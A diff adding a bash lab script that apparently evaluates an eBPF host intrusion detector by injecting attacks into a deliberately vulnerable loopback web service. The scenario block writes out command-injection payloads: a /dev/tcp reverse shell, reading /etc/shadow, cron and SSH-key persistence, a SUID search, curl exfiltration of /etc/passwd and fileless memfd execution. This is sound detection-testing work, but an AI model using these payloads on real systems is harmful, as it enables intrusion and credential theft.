@@ -1,0 +1,192 @@
+#!/usr/bin/env bash
+# The host lab: a victim service with a flaw, a benign workload, and attack
+# scenarios through the flaw with real programs, watched by a daisi node
+# whose host baselines learn first. Run as root (eBPF, mount namespace).
+#
+#   lab/host.sh run OUT [--learn 60s] [--benign 120s] [--scenarios a,b,...]
+#       learns for --learn while the benign workload runs, keeps the
+#       benign workload alone for --benign (false alarms), then runs each
+#       scenario; writes OUT/alerts.jsonl, OUT/phases.jsonl and the node's
+#       log, then prints `daisi eval host` for them.
+#   lab/host.sh scenarios     the scenario names
+#
+# The victim (lab/host/victim.py: a web application whose /ping passes its
+# parameter to a shell) and a scheduler running a periodic backup run in a
+# mount namespace of their own where /etc/cron.d, /root/.ssh and the web
+# root are scratch tmpfs: persistence writes land there, never on this
+# machine. All traffic is on 127.0.0.1; every request and loop is bounded
+# in count and time.
+#
+# Environment: DAISI_BIN (default target/release/daisi, else debug).
+set -euo pipefail
+cd "$(dirname "$0")/.."
+
+SCENARIOS=(reverse_shell credential_theft persistence_cron persistence_ssh privilege_escalation exfiltration fileless miner seen_programs_only)
+
+log() { printf '[host-lab] %s\n' "$*" >&2; }
+die() { log "error: $*"; exit 1; }
+now_ns() { date +%s%N; }
+
+BIN="${DAISI_BIN:-}"
+if [ -z "$BIN" ]; then
+  for b in target/release/daisi target/debug/daisi; do
+    [ -x "$b" ] && BIN="$PWD/$b" && break
+  done
+fi
+
+free_port() { python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])'; }
+urlencode() { python3 -c 'import sys, urllib.parse; print(urllib.parse.quote(sys.argv[1]))' "$1"; }
+
+# One request to the victim, bounded.
+get() { curl -s -o /dev/null --max-time 25 "http://127.0.0.1:$VPORT$1" || true; }
+# A command through the flaw.
+inject() { get "/ping?host=$(urlencode "localhost; $1")"; }
+
+# The benign workload: the application's everyday requests, with variety,
+# until $1 (epoch seconds), at most 20 requests per second.
+benign() {
+  local until="$1" n=0
+  while [ "$(date +%s)" -lt "$until" ] && [ $n -lt 100000 ]; do
+    case $((RANDOM % 6)) in
+      0) get / ;;
+      1) get /list ;;
+      2) get /time ;;
+      3) get "/page?name=index.html" ;;
+      4) get "/page?name=about.html" ;;
+      5) get "/ping?host=host$((RANDOM % 50)).example" ;;
+    esac
+    n=$((n + 1))
+    sleep 0.05
+  done
+}
+
+scenario() { # $1 = name: the attack's steps through the flaw
+  case "$1" in
+    reverse_shell) inject "bash -c 'exec 3<>/dev/tcp/127.0.0.1/$APORT; echo id >&3; sleep 1'" ;;
+    credential_theft) inject "cat /etc/shadow" ;;
+    persistence_cron) inject "echo '* * * * * root /tmp/.x' > /etc/cron.d/update" ;;
+    persistence_ssh) inject "mkdir -p /root/.ssh; echo 'ssh-ed25519 AAAAlab attacker' >> /root/.ssh/authorized_keys" ;;
+    privilege_escalation) inject "find / -xdev -maxdepth 3 -perm -4000 -type f 2>/dev/null | head -5; su -s /bin/sh -c id nobody" ;;
+    exfiltration) inject "curl -s --max-time 3 -T /etc/passwd http://127.0.0.1:$APORT/loot" ;;
+    fileless) inject "python3 -c \"import os; fd = os.memfd_create('k'); os.write(fd, b'#!/bin/sh\\necho hi\\n'); os.execv('/proc/self/fd/%d' % fd, ['k'])\"" ;;
+    miner) inject "timeout 3 sh -c 'while :; do :; done'" ;;
+    # Programs the baseline has seen (the shell), on a file it has not.
+    seen_programs_only) inject "read line < /etc/shadow" ;;
+    *) die "no scenario $1" ;;
+  esac
+}
+
+run() {
+  local out="" learn=60 benign_s=120 only=""
+  while [ $# -gt 0 ]; do
+    case "$1" in
+      --learn) learn="${2%s}"; shift 2 ;;
+      --benign) benign_s="${2%s}"; shift 2 ;;
+      --scenarios) only="$2"; shift 2 ;;
+      *) out="$1"; shift ;;
+    esac
+  done
+  [ -n "$out" ] || die "usage: lab/host.sh run OUT [--learn 60s] [--benign 120s] [--scenarios a,b]"
+  [ "$(id -u)" -eq 0 ] || die "the host lab needs root (eBPF, a mount namespace)"
+  [ -n "$BIN" ] || die "no daisi binary: build it (cargo build --release) or set DAISI_BIN"
+  for t in python3 curl unshare bash su find timeout; do
+    command -v "$t" >/dev/null || die "missing tool: $t (run scripts/setup.sh)"
+  done
+  local list=("${SCENARIOS[@]}")
+  [ -z "$only" ] || IFS=, read -r -a list <<<"$only"
+  mkdir -p "$out"
+  out="$(cd "$out" && pwd)"
+  rm -f "$out/alerts.jsonl" "$out/phases.jsonl"
+  rm -rf "$out/baselines"
+  VPORT=$(free_port)
+  APORT=$(free_port)
+  PIDS=()
+  trap 'kill "${PIDS[@]}" 2>/dev/null || true; wait 2>/dev/null || true' EXIT
+
+  # The attacker's listener (loopback): takes what is sent, bounded.
+  python3 - "$APORT" <<'EOF' &
+import socket, sys, time
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(16); s.settimeout(1)
+end = time.time() + 3600
+while time.time() < end:
+    try:
+        c, _ = s.accept(); c.settimeout(2)
+        try:
+            while c.recv(65536): pass
+        except OSError: pass
+        c.close()
+    except socket.timeout: pass
+EOF
+  PIDS+=($!)
+
+  # The victim and its scheduler, in a mount namespace of their own.
+  unshare -m --propagation private bash -c '
+    set -e
+    mkdir -p /srv/daisi-lab
+    for d in /etc/cron.d /root/.ssh /srv/daisi-lab; do mkdir -p "$d"; mount -t tmpfs -o size=8m lab "$d"; done
+    echo "<h1>daisi lab</h1>" > /srv/daisi-lab/index.html
+    echo "about" > /srv/daisi-lab/about.html
+    # The scheduler: a backup every 5 s (at most an hour).
+    (for i in $(seq 720); do tar czf /tmp/daisi-lab-backup.tgz -C /srv daisi-lab 2>/dev/null; sleep 5; done) &
+    exec python3 lab/host/victim.py "$0" /srv/daisi-lab
+  ' "$VPORT" &
+  local victim=$!
+  PIDS+=($victim)
+  for _ in $(seq 100); do curl -fs -o /dev/null "http://127.0.0.1:$VPORT/" && break; sleep 0.1; done
+  curl -fs -o /dev/null "http://127.0.0.1:$VPORT/" || die "the victim did not start"
+
+  cat >"$out/node.toml" <<EOF
+[node]
+role = "both"
+host = "host-lab"
+[syscall_source]
+kind = "ebpf"
+pids = [$victim]
+[syscall_batcher]
+max_wait = "200ms"
+# The host lab measures baselines: the per-host sequence model (trained on
+# ADFA-LD) is out of it.
+[syscall_classifier]
+threshold = 2.0
+[baseline]
+dir = "$out/baselines"
+learn_for = "${learn}s"
+save_every = "5s"
+[alert]
+console = false
+jsonl = "$out/alerts.jsonl"
+cooldown = "3s"
+EOF
+  "$BIN" run --config "$out/node.toml" 2>"$out/node.log" &
+  local node=$!
+  PIDS+=($node)
+  for _ in $(seq 200); do grep -q "node running" "$out/node.log" && break; sleep 0.1; done
+  grep -q "node running" "$out/node.log" || { cat "$out/node.log" >&2; die "the node did not start"; }
+
+  phase() { printf '{"phase":"%s","kind":"%s","start_ns":%s,"end_ns":%s}\n' "$1" "$2" "$3" "$4" >>"$out/phases.jsonl"; }
+  log "learning for ${learn}s (benign workload)"
+  local t0; t0=$(now_ns)
+  benign $(($(date +%s) + learn + 2))
+  phase learning learning "$t0" "$(now_ns)"
+  log "benign only for ${benign_s}s"
+  t0=$(now_ns)
+  benign $(($(date +%s) + benign_s))
+  phase benign benign "$t0" "$(now_ns)"
+  for s in "${list[@]}"; do
+    log "scenario $s"
+    t0=$(now_ns)
+    scenario "$s"
+    sleep 6 # past the tree's quiet time: each scenario is its own incident
+    phase "$s" attack "$t0" "$(now_ns)"
+  done
+  kill -TERM "$node"
+  wait "$node" || true
+  "$BIN" eval host --alerts "$out/alerts.jsonl" --phases "$out/phases.jsonl"
+}
+
+case "${1:-}" in
+  run) shift; run "$@" ;;
+  scenarios) printf '%s\n' "${SCENARIOS[@]}" ;;
+  *) sed -n '2,20p' "$0" | sed 's/^# \{0,1\}//'; exit 2 ;;
+esac
